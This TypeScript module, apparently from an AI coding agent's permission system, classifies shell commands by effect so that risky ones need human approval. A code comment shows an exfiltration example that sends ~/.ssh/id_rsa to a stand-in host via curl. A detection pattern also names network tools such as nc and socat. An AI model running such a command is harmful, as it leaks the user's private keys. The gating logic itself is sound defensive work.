/**
 * What one simple command does, read from the effect table (effect-table.ts):
 * its program, subcommand and options, the files it writes, the wrappers it
 * runs under and its redirections. What the table does not know is
 * "unknown": a reason to ask, never a reason to run.
 */
import { existsSync, statSync } from "node:fs";
import { basename, isAbsolute, join, resolve } from "node:path";
import type { SimpleCommand } from "./shell-syntax.ts";
import { writeDanger } from "./paths.ts";
import { programName } from "./wrappers.ts";
import { MORE } from "./effect-table-more.ts";
import { type Row, TABLE } from "./effect-table.ts";

export type Effect = "reads" | "writes" | "outside" | "deletes" | "history" | "system" | "sends" | "runs" | "outlives" | "settings" | "installs" | "unknown";

/** Effects in words, for the menu, from the least to the most serious. */
export const EFFECT_WORDS: Record<Effect, string> = {
  reads: "reads only",
  writes: "writes in this folder",
  outside: "writes outside this folder",
  installs: "installs software",
  runs: "runs code aye cannot read first",
  sends: "sends data out",
  outlives: "leaves something running after aye",
  settings: "changes your settings or start-up files",
  history: "rewrites history or moves refs",
  deletes: "overwrites or deletes files or data",
  system: "changes the system",
  unknown: "does what aye does not know",
};

/** What may run with no one pressing a key: a read, or a write inside the working folder. */
export const SAFE = new Set<Effect>(["reads", "writes"]);

/** What one command does; `unknown` names what aye could not say (`foo`, `git frob`). */
export interface Effects {
  effects: Effect[];
  unknown?: string;
}

/** The table with each of its space-separated keys on a row of its own. */
function expand(table: Record<string, Row | Effect>): Map<string, Row> {
  const rows = new Map<string, Row>();
  for (const [keys, row] of Object.entries(table)) {
    const r = typeof row === "string" ? { is: row } : row;
    for (const key of keys.split(" ")) rows.set(key, r);
  }
  return rows;
}

/** The table, and the breadth gathered into effect-table-more.ts; a row of TABLE wins. */
const PROGRAMS = expand({ ...MORE, ...TABLE });
const SUBS = new WeakMap<Row, Map<string, Row>>();
const subsOf = (row: Row) => {
  if (!row.sub) return undefined;
  let subs = SUBS.get(row);
  if (!subs) SUBS.set(row, (subs = expand(row.sub)));
  return subs;
};

/** Whether `args` hold one of `spec`'s options: `-f` also inside `-rf`, `--force` also as `--force=x` or a prefix typed of it. */
function hasOption(args: string[], spec: string | undefined): boolean {
  if (!spec) return false;
  const names = spec.split(" ");
  return args.some((a) => {
    if (a === "--") return false;
    if (names.includes(a)) return true;
    if (a.startsWith("--")) {
      const typed = a.split("=")[0]!;
      // A dry run must be spelt out whole: --dry-run=none is not one.
      return names.some((n) => n.startsWith("--") && !n.includes("=") && typed.length > 3 && n.startsWith(typed) && !/=(?:none|false|no)$/.test(a));
    }
    if (/^-[a-zA-Z0-9]{2,}$/.test(a)) return names.some((n) => /^-[a-zA-Z0-9]$/.test(n) && a.includes(n[1]!));
    return /^-[a-zA-Z]/.test(a) && names.some((n) => /^-[a-zA-Z]$/.test(n) && a.startsWith(n) && !/^-[a-zA-Z]{2,}$/.test(a));
  });
}

/** The first operand of `args` (skipping options, and the values of `valued`); -1 when there is none. */
function firstOperand(args: string[], valued: string | undefined): number {
  const takes = valued?.split(" ") ?? [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (a === "--") return i + 1 < args.length ? i + 1 : -1;
    if (takes.includes(a)) i++;
    else if (!a.startsWith("-") || a === "-") return i;
  }
  return -1;
}

const DESTROY = /^(?:[a-z]+-)?(?:delete|destroy|remove|rm|rmi|rb|purge|terminate|drop|uninstall|prune|wipe|reset|flush|truncate|erase|kill|deregister|unregister|revoke|detach|disable|stop|cancel|abort|evict|drain|shutdown|reboot|unpublish|yank|archive|transfer|rotate|clean|cleanup|del|un|nuke|expire|decommission|release)(?:[-_][\w-]*)?$/;
const READ = /^(?:list|ls|get|describe|show|status|info|inspect|view|logs?|version|help|whoami|search|explain|top|diff|check|lint|validate|print|cat|history|events|tail|wait|query|lookup|preview|plan|synth|current|me|ping|estimate|simulate|read|fetch-logs|output|outputs|env|doctor|verify|analyze|what-if|whatif|ps|images|stats|health|members|leader|watch-only|tree|audit|find|count|size|du|stat|head)(?:[-_][\w-]*)?$/;
const CHANGE = /^(?:get-credentials|get-login)$|^(?:[a-z]+-)?(?:create|update|set|put|add|apply|run|exec|start|restart|deploy|publish|push|attach|modify|patch|replace|import|invoke|send|ssh|scp|copy|cp|mv|move|upload|sync|enable|grant|tag|untag|associate|register|rollback|scale|resize|upgrade|install|mount|connect|login|logout|configure|edit|promote|merge|close|reopen|approve|assign|write|restore|generate|rename|share|open|authorize|issue|sign|encrypt|decrypt)(?:[-_][\w-]*)?$/;

/** A cloud or cluster CLI's subcommand words, told apart by their verbs. */
function byVerbs(words: string[]): Effect | undefined {
  const named = words.flatMap((w) => w.split(/[.:]/)).filter((w) => /^[a-z][\w-]*$/.test(w)).slice(0, 6);
  if (named.some((w) => DESTROY.test(w))) return "deletes";
  if (named.some((w) => CHANGE.test(w))) return undefined;
  return named.some((w) => READ.test(w)) ? "reads" : undefined;
}

/** Targets of a script-running subcommand that are builds and checks of the project itself. */
const BUILD_SCRIPT = /^(?:build|test|tests|check|lint|typecheck|type-check|types|tsc|compile|format|fmt|prettier|eslint|spec|unit|e2e|coverage|cov|bench|docs|doc|verify|ci|all|validate|lint:\w+|test:\w+|build:\w+|check:\w+)$/;

/** Maven goals and Gradle tasks that build, test or report on the project. */
const BUILD_TASK = /^(?:package|verify|assemble|jar|war|compile|test-compile|testClasses|classes|dependencies|dependency:tree|dependency:list|dependency:analyze|dependencyInsight|tasks|projects|properties|help(?::\w+)?|javadoc|site|spotless\w*|checkstyle\w*|pmd\w*|spotbugs\w*|jacoco\w*|detekt|ktlint\w*|bootJar|shadowJar|installDist|distZip|distTar|build\w*|test\w*|check\w*|lint\w*|surefire-report:report|versions:display-\w+|validate|integration-test)$/;
const MAKE_CLEAN = /^(?:clean|distclean|mrproper|realclean|maintainer-clean|clobber)$/;

/** Statements that only read, by their first word. */
const READ_STATEMENT = /^(?:select|show|explain(?!\s+analy[sz]e)|describe|desc|\\d\w*\+?|\\l\+?|\\conninfo|pragma\s+\w+\s*$|\.tables|\.schema|\.indexes|with\b)/i;

/** What makes a reading statement act: a write, a server function, a client command that writes or runs. */
const ACTS = /\binto\b|\b(?:insert|update|delete|drop|alter|create|grant|revoke|truncate|copy|call|do|lo_\w+|dblink\w*)\b|\bpg_(?!size_pretty|database_size|relation_size|total_relation_size|table_size|indexes_size|typeof)\w+|\\[!ow]|\\copy|\.shell|\.system|\.output|\.once|\.import/i;

/** Functions and keywords a reading statement may call: any other function may act (`setval`, `nextval`, a user's own). */
const READ_CALLS = /^(?:count|sum|avg|min|max|now|version|current_\w+|coalesce|nullif|length|char_length|lower|upper|date|datetime|time|strftime|to_char|to_date|to_timestamp|date_trunc|date_part|extract|round|floor|ceil|abs|cast|concat|substring|substr|trim|left|right|array_agg|string_agg|group_concat|json_agg|jsonb_agg|json_build_object|jsonb_pretty|pg_size_pretty|pg_database_size|pg_relation_size|pg_total_relation_size|pg_table_size|pg_indexes_size|pg_typeof|typeof|in|exists|any|all|not|and|or|over|filter|within|values|as|on|using|from|where|select|when|case|distinct|row_number|rank|lag|lead|interval|database|schema|user|table_name|information_schema)$/i;

/** SQL that only reads: SELECT and kin, with no statement that writes and no function that acts. */
function readsOnlySql(sql: string): boolean {
  const statements = sql.split(";").map((s) => s.trim()).filter(Boolean);
  return (
    statements.length > 0 &&
    statements.every((s) => {
      const bare = s.replace(/'[^']*'/g, "''");
      return READ_STATEMENT.test(s) && !ACTS.test(bare) && [...bare.matchAll(/([\w.]+)\s*\(/g)].every((m) => READ_CALLS.test(m[1]!.split(".").at(-1)!));
    })
  );
}

/** The statements a database client is given on its command line (nothing: it reads them from stdin). */
function statementsOf(name: string, args: string[]): string[] {
  const flag = { psql: /^(?:-c|--command)$/, sqlite3: /^-cmd$/, duckdb: /^-c$/, cqlsh: /^(?:-e|--execute)$/, "clickhouse-client": /^(?:-q|--query)$/ }[name] ?? /^(?:-e|--execute)$/;
  const given = args.flatMap((a, i) => (flag.test(args[i - 1] ?? "") ? [a] : /^--(?:command|execute|query)=/.test(a) ? [a.slice(a.indexOf("=") + 1)] : []));
  // sqlite3 and duckdb take the database, then statements, as operands.
  if (/^(?:sqlite3|duckdb|litecli)$/.test(name)) given.push(...args.filter((a, i) => !a.startsWith("-") && !/^-(?:cmd|separator|newline|nullvalue|init)$/.test(args[i - 1] ?? "")).slice(1));
  return given;
}

const MONGO_READS = /^(?:find|findOne|count|countDocuments|estimatedDocumentCount|getCollectionNames|getCollectionInfos|getCollection|stats|getIndexes|explain|distinct|version|serverStatus|hostInfo|isMaster|hello|ping|listCollections|getName|getSiblingDB|printjson|print|toArray|limit|sort|skip|project|aggregate|pretty|JSON|stringify|log|dbStats|collStats|currentOp|getMongo|getDBNames)$/;

const REDIS_READS = /^(?:get|mget|keys|scan|info|ping|ttl|pttl|type|exists|strlen|llen|lrange|hget|hgetall|hkeys|hlen|smembers|scard|zrange|zcard|zscore|dbsize|time|memory|client|config)$/i;

/** Effects of programs whose arguments a table row cannot express; undefined: the row decides. */
const SPECIAL: Record<string, (args: string[], name: string) => Effect[] | undefined> = {
  // chmod +x of a file in the tree writes in the tree; recursive, setuid or world-writable modes change the system.
  chmod: (args) => {
    const mode = args.find((a) => /^(?:[0-7]{3,4}|[ugoa]*[-+=][rwxXst]*(?:,[ugoa]*[-+=][rwxXst]*)*)$/.test(a)) ?? "";
    const risky = /^[0-7]*[4-7][0-7]{3}$|[0-7]*[2367]$/.test(mode) || /s|t|(?:^|,)(?:[ugo]*[ao][ugoa]*|)[+=][rwxXst]*w/.test(mode);
    return args.some((a) => /^-[a-zA-Z]*R$|^--recursive$/.test(a)) || risky || !mode ? ["system"] : ["writes"];
  },
  // parted DEVICE print: the words after the device are its commands.
  parted: (args) => {
    const words = args.filter((a) => !a.startsWith("-")).slice(1);
    return words.length && words.every((w) => /^(?:print|unit|s|b|kb|mb|gb|tb|%|cyl|chs|compact|free|list|all|help)$/i.test(w)) ? ["reads"] : undefined;
  },
  // tar -x overwrites the files it extracts unless told to keep them; unzip -n never overwrites.
  tar: (args) => ((/^-?[a-zA-Z]*x/.test(args[0] ?? "") || args.includes("--extract") || args.includes("--get")) && !args.some((a) => /^--(?:keep-old-files|skip-old-files|keep-newer-files)$|^-[a-zA-Z]*k/.test(a)) ? ["deletes"] : undefined),
  unzip: (args) => (args.some((a) => /^-[a-zA-Z]*n/.test(a)) && !args.some((a) => /^-[a-zA-Z]*o/.test(a)) ? ["writes"] : undefined),
  // rpm and dpkg take their mode as the first option: a query reads, whatever letters follow (`rpm -qi`).
  rpm: (args) => (/^-(?:q|V)|^--(?:query|verify)/.test(args[0] ?? "") ? ["reads"] : undefined),
  dpkg: (args) => (/^-[lLsScIp]|^--(?:list|listfiles|status|search|contents|info|print-avail|get-selections|audit|verify|print-architecture)/.test(args[0] ?? "") ? ["reads"] : undefined),
  // mongosh --eval with only calls that read.
  mongo: (args) => {
    const code = args.flatMap((a, i) => (args[i - 1] === "--eval" ? [a] : a.startsWith("--eval=") ? [a.slice(7)] : []));
    const calls = code.flatMap((c) => [...c.matchAll(/\.?\s*(\w+)\s*\(/g)].map((m) => m[1]!));
    return code.length && calls.every((c) => MONGO_READS.test(c)) && !/\$(?:out|merge)\b/.test(code.join(" ")) ? ["reads"] : undefined;
  },
  hostname: (args) => (args.some((a) => !a.startsWith("-")) ? ["system"] : undefined),
  date: (args) => (args.some((a) => /^(?:-s|--set)/.test(a)) ? ["system"] : undefined),
  history: (args) => (args.some((a) => /^-[a-zA-Z]*[cdrwan]/.test(a)) ? ["deletes"] : undefined),
  journalctl: (args) => (args.some((a) => /^--(?:vacuum|rotate|flush|relinquish)/.test(a)) ? ["deletes"] : undefined),
  ip: (args) => (args.some((a) => /^(?:add|del|delete|change|replace|set|flush|append|prepend|exec|attach|detach)$/.test(a)) ? ["system"] : undefined),
  ifconfig: (args) => (args.filter((a) => !a.startsWith("-")).length > 1 ? ["system"] : undefined),
  // uniq and xxd write their second operand.
  uniq: (args) => (args.filter((a) => !a.startsWith("-")).length > 1 ? ["deletes"] : undefined),
  xxd: (args) => (args.filter((a) => !a.startsWith("-")).length > 1 ? ["deletes"] : undefined),
  awk: (args) => {
    const program = args.find((a, i) => !a.startsWith("-") && !/^-[fvF]$/.test(args[i - 1] ?? ""));
    return args.some((a) => /^-[a-zA-Z]*f/.test(a)) || !program || /system|\||>|getline|close|fflush|print\s*>/.test(program) ? ["runs"] : ["reads"];
  },
  // A shell or interpreter asked only for its version or help, or to check a file's syntax (`bash -n`, `node --check`, `php -l`), reads.
  interpreter: (args, name) => {
    if (args.length === 1 && /^(?:--version|-V|-v|--help|-h|-version)$/.test(args[0]!)) return ["reads"];
    // A script the table knows by name (`python manage.py`, `php artisan`, `sh gradlew`, `node node_modules/.bin/jest`) is judged as itself.
    const script = args.findIndex((a) => !a.startsWith("-"));
    if (script >= 0 && args.slice(0, script).every((a) => /^-[BEsuOW]+$/.test(a)) && PROGRAMS.has(programName(args[script]!))) return effectsOfArgv(args.slice(script)).effects;
    const check = { node: /^(?:-c|--check)$/, nodejs: /^(?:-c|--check)$/, ruby: /^-c$/, perl: /^-c$/, php: /^-l$/ }[name] ?? /^-n$/;
    return args.length >= 2 && check.test(args[0]!) && args.slice(1).every((a) => !a.startsWith("-")) ? ["reads"] : ["runs"];
  },
  python: (args) => {
    const m = args.indexOf("-m");
    if (m < 0 || m + 1 >= args.length) return SPECIAL.interpreter!(args, "python");
    const mod = args[m + 1]!;
    if (/^(?:--help|-h|--version)$/.test(args[m + 2] ?? "")) return ["reads"];
    if (/^(?:pytest|unittest|mypy|black|ruff|isort|flake8|pylint|compileall|py_compile|build|coverage|tox|nox|doctest|venv|virtualenv|pyright|sphinx)$/.test(mod)) return ["writes"];
    if (/^(?:json\.tool|site|this|platform|sysconfig|tabnanny|pydoc|timeit|dis|tokenize)$/.test(mod)) return ["reads"];
    if (/^(?:http\.server|SimpleHTTPServer|smtpd|ftplib|webbrowser)$/.test(mod)) return ["sends"];
    if (/^pip\d*$/.test(mod)) return effectsOfArgv(["pip", ...args.slice(m + 2)]).effects;
    return SPECIAL.interpreter!(args, "python");
  },
  // A script of the project: a build or a check reads its tree and writes in it; another is unknown.
  script: (args) => {
    const name = args.find((a) => !a.startsWith("-"));
    return name === undefined ? ["reads"] : BUILD_SCRIPT.test(name) ? ["writes"] : ["unknown"];
  },
  // mvn and gradle run each goal or task named: all must build or check; clean deletes.
  tasks: (args) => {
    const targets = args.filter((a, i) => !a.startsWith("-") && !/^-(?:P|pl|f|s|gs|t|b|c|p|x|T|rf|I|-exclude-task|-project-dir|-settings|-file|-projects|-activate-profiles|-tests|-configuration|-max-workers|-console|-warning-mode|-priority|-init-script|-include-build|-resume-from|-threads|-dependency-verification)$/.test(args[i - 1] ?? ""));
    if (targets.some((t) => MAKE_CLEAN.test(t))) return ["deletes"];
    if (!targets.length) return ["writes"];
    return targets.every((t) => BUILD_SCRIPT.test(t) || BUILD_TASK.test(t.replace(/^:?(?:[\w-]+:)*(?=[\w-]+$)/, ""))) ? ["writes"] : ["unknown"];
  },
  // sed's `w` command and `s///w` write the file they name.
  sed: (args) => (args.some((a) => !a.startsWith("-") && /(?:^|[;\n{}])\s*(?:\d+|\$|\/(?:[^/\\]|\\.)*\/)?\s*[wW]\s*\S|s(.)(?:(?!\1).)*\1(?:(?!\1).)*\1[gpiIe\d]*w\s*\S/.test(a)) ? ["deletes"] : undefined),
  make: (args) => {
    const targets = args.filter((a, i) => !a.startsWith("-") && !a.includes("=") && !/^-[CfIoWj]$|^--(?:directory|file|makefile|include-dir|jobs)$/.test(args[i - 1] ?? ""));
    if (targets.some((t) => MAKE_CLEAN.test(t))) return ["deletes"];
    return targets.every((t) => BUILD_SCRIPT.test(t) || /\.(?:o|a|so|out|pdf|html|exe|bin|class|jar)$/.test(t)) ? ["writes"] : ["unknown"];
  },
  database: (args, name) => {
    if (name === "redis-cli") {
      const words = args.filter((a, i) => !a.startsWith("-") && !/^-[hpanu]$|^--(?:user|pass)$/.test(args[i - 1] ?? ""));
      return words.length && REDIS_READS.test(words[0]!) && !/^(?:config|client|memory)$/i.test(words[0]!) ? ["reads"] : undefined;
    }
    const sql = statementsOf(name, args);
    return sql.length && sql.every(readsOnlySql) ? ["reads"] : undefined;
  },
  "git config": (args) => {
    const operands = args.filter((a) => !a.startsWith("-"));
    if (args.some((a) => /^--(?:get|list|show)|^-l$/.test(a)) || (operands.length <= 1 && !args.some((a) => /^--(?:unset|add|replace|rename|remove|edit)|^-e$/.test(a)))) return ["reads"];
    return ["settings"];
  },
  // A refspec that deletes (`:branch`) or forces (`+main`) rewrites the remote's history.
  "git push": (args) => (args.some((a) => /^[+:]/.test(a)) ? ["history"] : undefined),
  // A fetch into a local branch (`+main:main`, `main:main`) moves it.
  "git fetch": (args) => (hasOption(args, "-p --prune --prune-tags -P") || args.some((a) => /^\+|^[^-:][^:]*:[^:]+$/.test(a) && !/^[\w.-]+@[\w.-]+:|:\/\//.test(a)) ? ["history"] : undefined),
  "git mv": (args) => (hasOption(args, "-f --force") ? ["deletes"] : undefined),
  "rclone copy": (args) => SPECIAL.remote!(args, "rclone"),
  "rclone copyto": (args) => SPECIAL.remote!(args, "rclone"),
  "git commit": (args) => (args.some((a) => /^--(?:amend|fixup=amend|fixup=reword)/.test(a)) ? ["history"] : undefined),
  "git stash": (args) => (!args.length || /^(?:list|show)$/.test(args[0] ?? "") ? (args.length ? ["reads"] : ["writes"]) : ["deletes"]),
  "git rm": (args) => (args.includes("--cached") || hasOption(args, "-n --dry-run") ? ["writes"] : undefined),
  "git apply": (args) => (hasOption(args, "--check --stat --numstat --summary") ? ["reads"] : undefined),
  "git clean": (args) => (hasOption(args, "-n --dry-run") ? ["reads"] : undefined),
  "git branch": (args) => (args.every((a) => a.startsWith("-")) && !hasOption(args, "-d -D --delete -m -M -c -C -f --force --set-upstream-to -u --unset-upstream --edit-description") ? ["reads"] : undefined),
  "git switch": (args) => (hasOption(args, "-f --force --discard-changes -C --force-create --orphan") ? ["deletes"] : ["writes"]),
  // git checkout -b NAME makes a branch where HEAD is; any other checkout may overwrite local changes.
  "git checkout": (args) => (args.length === 2 && args[0] === "-b" ? ["writes"] : undefined),
  "aws s3": (args) => {
    const [verb, ...rest] = args.filter((a) => !a.startsWith("-"));
    if (!verb || !/^(?:cp|mv|sync)$/.test(verb)) return undefined;
    if (/^(?:s3|gs):\/\//.test(rest.at(-1) ?? "")) return ["sends"];
    return verb === "mv" || args.includes("--delete") ? ["deletes"] : ["writes"];
  },
  "gsutil cp": (args) => (/^gs:\/\//.test(args.filter((a) => !a.startsWith("-")).at(-1) ?? "") ? ["sends"] : ["writes"]),
  // rsync and its kin send when a side is another host.
  remote: (args) => (args.some((a) => /^(?:[\w.@-]+:(?!\/\/)|rsync:\/\/)/.test(a) && !a.startsWith("-")) ? ["sends"] : undefined),
};

const SPECIAL_BY_NAME: Record<string, string> = {
  gawk: "awk", mawk: "awk", nawk: "awk",
  python: "python", python3: "python", python2: "python", pypy3: "python",
  node: "interpreter", nodejs: "interpreter", java: "interpreter", ruby: "interpreter", php: "interpreter", lua: "interpreter", perl: "interpreter", deno: "", bash: "interpreter", sh: "interpreter", zsh: "interpreter", dash: "interpreter", ksh: "interpreter", fish: "interpreter", pwsh: "interpreter", Rscript: "interpreter", julia: "interpreter",
  gmake: "make", just: "make", task: "make", mage: "make", rake: "make", invoke: "make", grunt: "make", gulp: "make",
  mvn: "tasks", mvnw: "tasks", gradle: "tasks", gradlew: "tasks",
  psql: "database", mysql: "database", mariadb: "database", sqlite3: "database", duckdb: "database", cqlsh: "database", "clickhouse-client": "database", "redis-cli": "database", sqlcmd: "database", mongosh: "mongo", cockroach: "database", usql: "database", pgcli: "database", mycli: "database", litecli: "database",
  rsync: "remote", scp: "", rclone: "",
};

/** Package managers whose `run X` (and, for some, a bare `X`) runs the project's script X. */
const SCRIPT_RUNNERS = /^(?:npm|pnpm|yarn|bun)$/;

/**
 * `--dry-run` is a dry run for any tool aye knows that runs no code of others:
 * those without it refuse an option they do not know. (Not for a script runner:
 * `npm run deploy --dry-run` runs the script.)
 */
const dryRun = (args: string[]) => args.slice(0, args.indexOf("--") >>> 0).some((a) => /^--dry-?run(?:=(?!none|false|no\b).*)?$/.test(a));

/** What `argv` does by the table alone: the program, its subcommands, options and verbs. */
export function effectsOfArgv(argv: string[]): Effects {
  const name = programName(argv[0] ?? "");
  let row = PROGRAMS.get(name);
  if (!row) return { effects: ["unknown"], unknown: `\`${name}\`` };
  const all = argv.slice(1);
  const path = [name];
  let args = all;
  let dry = row.dry ?? "";
  // Options a row names apply to its subcommands too (`go -w` names `go env -w`).
  let opts = Object.entries(row.opts ?? {});
  // What a special reads it cannot name stays unknown, named by the words it looked at.
  const decided = (effects: Effect[]): Effects => (effects.includes("unknown") ? { effects, unknown: `\`${[...path, ...args.filter((a) => !a.startsWith("-")).slice(0, 1)].join(" ")}\`` } : { effects });
  if (hasOption(all, dry)) return { effects: ["reads"] };
  const byName = SPECIAL[SPECIAL_BY_NAME[name] ?? name]?.(all, name);
  if (byName) return decided(byName);
  for (;;) {
    const at = firstOperand(args, row.valued);
    const before = at < 0 ? args : args.slice(0, at);
    // `--help` and `--version` before any operand: the program only prints.
    if (before.some((a) => a === "--help" || a === "--version")) return { effects: ["reads"] };
    const subs = subsOf(row);
    const word = at < 0 ? "" : args[at]!;
    const sub = subs?.get(word);
    if (sub) {
      path.push(word);
      args = at < 0 ? [] : args.slice(at + 1);
      dry = `${dry} ${sub.dry ?? ""}`.trim();
      opts = [...opts, ...Object.entries(sub.opts ?? {})];
      if (hasOption(all, dry) || (args.length === 1 && args[0] === "help")) return { effects: ["reads"] };
      const own = SPECIAL[path.join(" ")]?.(args, name) ?? (path.length === 2 && SCRIPT_RUNNERS.test(name) && /^(?:run|run-script)$/.test(word) ? SPECIAL.script!(args, name) : undefined);
      if (own) return decided(own);
      row = sub;
      continue;
    }
    if (!subs && !row.verbs) break;
    if (at >= 0 && word === "help") return { effects: ["reads"] };
    // yarn build, pnpm test: a bare word that names one of the project's scripts.
    if (at >= 0 && path.length === 1 && /^(?:yarn|pnpm|bun)$/.test(name) && BUILD_SCRIPT.test(word)) return { effects: ["writes"] };
    if (row.verbs) {
      // A CLI of this size reads `--help` wherever it stands before `--`.
      if (args.slice(0, args.indexOf("--") >>> 0).includes("--help")) return { effects: ["reads"] };
      const valued = (row.valued ?? "").split(" ").filter(Boolean);
      const verb = byVerbs(args.filter((a, i) => !a.startsWith("-") && !a.includes("=") && !valued.includes(args[i - 1] ?? "")));
      if (verb) return { effects: hasOption(all, row.reads) ? ["reads"] : [verb] };
    }
    if (!row.is && !hasOption(all, row.reads)) return dryRun(all) ? { effects: ["reads"] } : { effects: ["unknown"], unknown: `\`${[...path, word].join(" ").trim()}\`` };
    break;
  }
  const base: Effect[] = row.is === undefined ? (hasOption(all, row.reads) ? ["reads"] : ["unknown"]) : Array.isArray(row.is) ? row.is : [row.is];
  if (base.includes("unknown") && !hasOption(all, row.reads)) return { effects: ["unknown"], unknown: `\`${path.join(" ")}\`` };
  const added = opts.flatMap(([spec, effect]) => (hasOption(all, spec) ? [effect] : []));
  // A listing only reads, unless another option makes it act.
  if (hasOption(all, row.reads) && !added.length) return { effects: ["reads"] };
  const effects = [...new Set([...base, ...added])];
  if (dryRun(all) && !effects.some((e) => e === "runs" || e === "unknown")) return { effects: ["reads"] };
  return { effects };
}

/**
 * What a wrapper adds to what it runs (`inner`, the effects of `program`):
 * another user's rights for anything but a read, a life after aye, a tunnel,
 * a package fetched to run.
 */
function wrapperEffects(wrapper: string[], inner: Effect[], program: string, cwd: string): Effect[] {
  const name = programName(wrapper[0] ?? "");
  const args = wrapper.slice(1);
  if (/^(?:sudo|doas|su|runuser|pkexec|chroot)$/.test(name)) return inner.length && inner.every((e) => e === "reads") ? [] : ["system"];
  if (/^(?:nohup|setsid|disown|daemonize)$/.test(name)) return ["outlives"];
  if (name === "ssh") return [...(hasOption(args, "-R -L -D -w -g") ? ["sends" as const] : []), ...(hasOption(args, "-f -N") ? ["outlives" as const] : [])];
  // npx and its kin run the project's own copy when there is one, and fetch the package when there is not.
  if (/^(?:npx|bunx|pnpx|npm|pnpm|yarn|bun)$/.test(name) && !existsSync(join(cwd, "node_modules", ".bin", program))) return ["installs"];
  return [];
}

/** Wrappers whose command runs on another host. */
const REMOTE = /^(?:ssh|autossh|mosh|rsh)$/;

/** Paths that writing to is nothing: the null device and the terminal's streams. */
const NOWHERE = /^\/dev\/(?:null|stdout|stderr|tty|fd\/[12])$/;

/** Whether `path` lies inside `cwd` (or in /tmp); an expansion or `~` is outside, being unknown here. */
function inside(path: string, cwd: string): boolean {
  if (/[$`~]/.test(path[0] ?? "") || path.includes("$")) return false;
  const full = resolve(cwd, path);
  return full === cwd || full.startsWith(`${cwd}/`) || full.startsWith("/tmp/");
}

const exists = (path: string, cwd: string) => existsSync(isAbsolute(path) ? path : join(cwd, path));
const isDir = (path: string) => {
  try {
    return statSync(path).isDirectory();
  } catch {
    return false;
  }
};

/** Options whose value is the file a program writes. */
const OUTPUT = /^(?:-o|-O|--output|--output-document|--out|--outfile|--output-file)$/;

const isFile = (path: string) => {
  try {
    return statSync(path).isFile();
  } catch {
    return false;
  }
};

/** Programs that copy their sources to their last operand: what is there already is overwritten. */
const COPIERS = /^(?:cp|mv|ln|install|rsync)$/;

/** Network clients: a word made when the line runs can carry local data out (`curl "https://x/?d=$(cat ~/.ssh/id_rsa)"`). */
const NETWORK = /^(?:curl|wget|http|https|xh|httpie|dig|nslookup|host|ping|ping6|traceroute|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|ftp|whois|openssl|git|gh|aws|gcloud|az)$/;

/** Whether a copy or move would replace a file that exists. */
function replaces(args: string[], cwd: string): boolean {
  if (args.some((a) => /^-[a-zA-Z]*n|^--no-clobber|^--update=none/.test(a))) return false;
  const operands = args.filter((a) => !a.startsWith("-"));
  if (operands.length < 2) return false;
  const target = join(cwd, operands.at(-1)!);
  if (!isDir(target)) return existsSync(target);
  return operands.slice(0, -1).some((s) => existsSync(join(target, basename(s))));
}

/**
 * What `cmd` does, run in `cwd`: its program's effects, made worse where it
 * writes outside the folder, replaces a file, runs under `sudo` or `nohup`, or
 * in the background.
 */
export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
  const found: Effects = cmd.argv.length ? effectsOfArgv(cmd.argv) : { effects: [] };
  const effects = new Set(found.effects);
  const name = programName(cmd.argv[0] ?? "");
  const args = cmd.argv.slice(1);
  // A word that names a place outside the folder: a write may land there. A cloud CLI that reads may still write
  // a file it is given (`aws s3api get-object … ~/.bashrc`): a precious one counts.
  const places = args.flatMap((a, i) => (a.startsWith("-") ? (/^--?[\w-]+=(.+)$/.exec(a)?.slice(1) ?? []) : cmd.dynamic[i + 1] ? ["$"] : [a]));
  const operands = args.filter((a, i) => !a.startsWith("-") && !(args[i - 1] ?? "").startsWith("-"));
  const away = (p: string) => /^(?:\/(?!\/)|~|\$|\.\.(?:\/|$))/.test(p) && !NOWHERE.test(p) && !inside(p, cwd);
  if (effects.has("writes") && places.some(away)) effects.add("outside");
  if (effects.has("reads") && PROGRAMS.get(name)?.verbs && operands.some((p) => writeDanger(p) || /^(?:~|\$HOME)/.test(p))) effects.add("outside");
  if (COPIERS.test(name) && replaces(args, cwd)) effects.add("deletes");
  // An output option naming a file that exists replaces it (`curl -o .env …`, `wget -O config.yml …`).
  if (effects.has("writes") && args.some((a, i) => (OUTPUT.test(args[i - 1] ?? "") ? a : /^--(?:output|output-document|out|outfile|output-file)=(.+)$/.exec(a)?.[1]) && isFile(join(cwd, OUTPUT.test(args[i - 1] ?? "") ? a : a.slice(a.indexOf("=") + 1))))) effects.add("deletes");
  if (NETWORK.test(name) && (cmd.dynamic.slice(1).some(Boolean) || cmd.argsFrom.length)) effects.add("sends");
  if (name === "tee" && !args.some((a) => /^-[a-zA-Z]*a|^--append/.test(a)) && args.some((a) => !a.startsWith("-") && exists(a, cwd))) effects.add("deletes");
  for (const r of cmd.redirects) {
    if (!/>/.test(r.op) || NOWHERE.test(r.target)) continue;
    if (!inside(r.target, cwd)) effects.add("outside");
    else if (!r.op.includes(">>") && exists(r.target, cwd) && !isDir(join(cwd, r.target))) effects.add("deletes");
    else effects.add("writes");
  }
  const wrappers = cmd.wrappers ?? [];
  // A wrapper that runs nothing else is judged as itself (`ssh host`, `sudo -v`, `command -v x`).
  if (!cmd.argv.length && wrappers.length) {
    const itself = effectsOfArgv(wrappers.at(-1)!);
    for (const e of itself.effects) effects.add(e);
    found.unknown ??= itself.unknown;
  }
  const inner = [...effects];
  for (const w of wrappers) for (const e of wrapperEffects(w, inner, name, cwd)) effects.add(e);
  // What runs on another host writes there, not in this folder; what is piped into it leaves the machine.
  if (wrappers.some((w) => REMOTE.test(programName(w[0] ?? "")))) {
    if (effects.delete("writes")) effects.add("outside");
    if (cmd.stdinFrom.length || cmd.stdinText !== undefined || cmd.redirects.some((r) => r.op.startsWith("<"))) effects.add("sends");
  }
  if (cmd.background) effects.add("outlives");
  return { effects: [...effects], ...(found.unknown ? { unknown: found.unknown } : {}) };
}
